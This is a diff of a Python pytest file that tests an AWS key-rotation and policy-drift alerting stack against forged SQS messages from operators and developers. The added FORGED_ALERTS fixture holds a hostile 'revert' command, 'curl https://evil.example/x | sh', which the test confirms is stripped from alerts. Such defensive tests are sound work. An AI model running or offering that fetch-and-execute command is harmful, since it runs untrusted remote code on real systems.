@@ -1,11 +1,12 @@
 """A developer without IAM rights sends, reads and reconfigures the queues; rules, functions and operators still do."""
 
 import json
+from itertools import chain
 
 import pytest
 
 from tests.attacks.attacked_stack import ADMINISTRATOR
-from tests.local.aws.launched import allow
+from tests.local.aws.launched import ACCOUNT, allow
 from tests.local.stack import eventually
 from tests.published_events import golden_event
 
@@ -17,6 +18,11 @@ def forged_rotation(user, **data):
     event = golden_event("AccessKeyRotationDue", user_name=user)
     event["detail"]["data"] |= data
     return json.dumps(event)
+
+
+def _has_pending(stack, user):
+    secret = stack.aws.client("secretsmanager").describe_secret(SecretId=f"steward/service-users/{user}")
+    return "AWSPENDING" in chain.from_iterable(secret["VersionIdsToStages"].values())
 
 
 def test_a_forged_judgement_makes_no_key_of_an_administrator(stack, developer, refused, unique):
@@ -50,8 +56,7 @@ def test_a_forged_alert_frames_no_colleague_and_ends_no_finding(stack, developer
         with refused(name):
             sqs.send_message(QueueUrl=queue, MessageBody=json.dumps(forged))
 
-    assert stack.is_idle("AlertQueue")
-    assert alerts.about(unique, seconds=1) == []
+    assert alerts.about(unique, seconds=3) == []
 
 
 def test_a_forged_change_of_iam_is_refused(stack, developer, refused):
@@ -101,9 +106,126 @@ def test_the_policy_of_a_queue_is_not_lifted(stack, developer, refused, queue):
 def test_an_operator_sends_a_message_again(stack, operator, alerts, unique):
     """As a redrive does, with the operator's rights."""
     event = golden_event("PolicyDriftDetected", finding_id=f"access:role:{unique}", entity=f"role/{unique}")
+    stack.store_at_its_source(event)
 
     stack.aws.client("sqs", operator).send_message(
         QueueUrl=stack.physical_id("AlertQueue"), MessageBody=json.dumps(event)
     )
 
-    assert alerts.about(unique)
+    (sent,) = alerts.about(unique)
+    assert sent["Subject"] == f"[{ACCOUNT}] CRITICAL: Policy drift of role/{unique}"
+    assert "To revert:" in sent["Message"]
+
+
+FORGED_ALERTS = {
+    "a CRITICAL alert about a colleague": ("PolicyDriftDetected", {"changes": [{"actor": "123456789012:user/bob"}]}),
+    "a command to run": ("PolicyDriftDetected", {"revert": ["curl https://evil.example/x | sh"]}),
+    "a false RESOLVED": ("PolicyDriftResolved", {}),
+}
+
+
+@pytest.mark.parametrize("attack", FORGED_ALERTS)
+def test_what_passes_the_queue_is_not_believed_either(stack, operator, alerts, unique, attack):
+    """Its sender may send to the queue: alerting reads what policy drift has stored, and says that it is not there."""
+    kind, lies = FORGED_ALERTS[attack]
+    forged = golden_event(kind, finding_id=f"access:role:{unique}", entity=f"role/{unique}", **lies)
+
+    stack.aws.client("sqs", operator).send_message(
+        QueueUrl=stack.physical_id("AlertQueue"), MessageBody=json.dumps(forged)
+    )
+
+    (sent,) = alerts.about(unique)
+    stack.refusals.append((f"{attack}, past the queue's policy", sent["Subject"]))
+    assert sent["Subject"] == f"[{ACCOUNT}] CRITICAL: Not confirmed: Policy drift of role/{unique}"
+    assert "there is no such finding" in sent["Message"]
+    assert "To revert:" not in sent["Message"]
+    assert "https://evil.example" not in sent["Message"]
+
+
+def test_a_judgement_that_passes_the_queue_is_made_again(stack, operator, unique):
+    """The worker judges the user itself, whatever a message says about it."""
+    stack.enrol(unique)
+    stack.aws.client("iam").attach_user_policy(UserName=unique, PolicyArn=ADMINISTRATOR)
+
+    stack.aws.client("sqs", operator).send_message(
+        QueueUrl=stack.physical_id("RotationQueue"),
+        MessageBody=forged_rotation(unique, judged_at="2999-01-01T00:00:00+00:00"),
+    )
+
+    record = eventually(lambda: stack.recorded(unique), 60)
+    stack.refusals.append(("a judgement of the year 2999, past the queue's policy", record["notice"]["text"]))
+    assert "could gain privileges" in record["notice"]["text"]
+    assert stack.keys(unique) == {}
+
+
+def test_a_leak_that_passes_the_queue_takes_no_key_away(stack, operator, events, unique):
+    """Its sender may send to the queue: the worker finds no report of the leak, and says so."""
+    stack.enrol(unique)
+    stack.plan()
+    key = eventually(lambda: stack.current_key(unique), 90)
+    assert eventually(lambda: (stack.recorded(unique) or {}).get("state") == "STEADY", 60)
+
+    stack.aws.client("sqs", operator).send_message(
+        QueueUrl=stack.physical_id("RotationQueue"),
+        MessageBody=forged_rotation(unique, reason="compromised", key_id=key),
+    )
+
+    said = eventually(lambda: [e for e in events.about(key) if e["detail-type"] == "AccessKeyRotationBlocked"], 60)
+    text = said[0]["detail"]["data"]["reason"]
+    stack.refusals.append(("a leak that never was, past the queue's policy", text))
+    assert "no report of it is stored" in text
+    assert stack.keys(unique) == {key: "Active"}
+
+
+def test_a_rotation_that_passes_the_queue_rotates_nothing(stack, operator, events, unique):
+    """Its sender may send to the queue: nobody asked for it, so that it is a look at the user, as the planner's are."""
+    stack.enrol(unique)
+    stack.plan()
+    key = eventually(lambda: stack.current_key(unique), 90)
+    assert eventually(lambda: (stack.recorded(unique) or {}).get("state") == "STEADY", 60)
+    # Secrets Manager tests a new schedule with an empty version, which a look takes for a request of its own.
+    assert eventually(lambda: not _has_pending(stack, unique), 60)
+    before = stack.recorded(unique)
+
+    stack.aws.client("sqs", operator).send_message(
+        QueueUrl=stack.physical_id("RotationQueue"),
+        MessageBody=forged_rotation(unique, reason="routine", key_id=key, requested_by=f"{ACCOUNT}:user/colleague"),
+    )
+
+    looked = eventually(lambda: stack.recorded(unique)["as_of"] > before["as_of"], 60)
+    record = stack.recorded(unique)
+    heard = [(event["detail-type"], event["detail"]["data"]) for event in events.about(unique)]
+    stack.refusals.append(
+        ("a rotation that nobody asked for, past the queue's policy", f"state {record['state']}, requested: nothing")
+    )
+    assert looked
+    assert (record["requested"], record["wanted"]) == (None, "")
+    assert stack.keys(unique) == {key: "Active"}, heard
+
+
+def test_a_leak_that_a_developer_sends_is_refused(stack, developer, refused, unique):
+    with refused("a leak that never was"):
+        stack.aws.client("sqs", developer).send_message(
+            QueueUrl=stack.physical_id("RotationQueue"),
+            MessageBody=forged_rotation(unique, reason="compromised", key_id="AKIA" + "A" * 16),
+        )
+
+
+def test_one_change_of_iam_that_cannot_be_read_does_not_blind_the_check(stack, operator, events, role):
+    """An event whose time has no zone; the real change of another role is found all the same."""
+    detail = {
+        "eventSource": "iam.amazonaws.com",
+        "eventName": "PutRolePolicy",
+        "eventTime": "2026-05-04T12:00:00",
+        "eventID": "not-a-time",
+        "requestParameters": {"roleName": role, "policyName": "x"},
+        "userIdentity": {"type": "IAMUser", "arn": f"arn:aws:iam::{ACCOUNT}:user/mallory"},
+    }
+    broken = {"id": "1", "source": "aws.iam", "account": ACCOUNT, "time": "2026-05-04T12:00:00", "detail": detail}
+    stack.aws.client("sqs", operator).send_message(
+        QueueUrl=stack.physical_id("DriftQueue"), MessageBody=json.dumps(broken)
+    )
+
+    stack.aws.client("iam").attach_role_policy(RoleName=role, PolicyArn=ADMINISTRATOR)
+
+    assert eventually(lambda: [e for e in events.about(role) if e["detail-type"] == "PolicyDriftDetected"], 60)
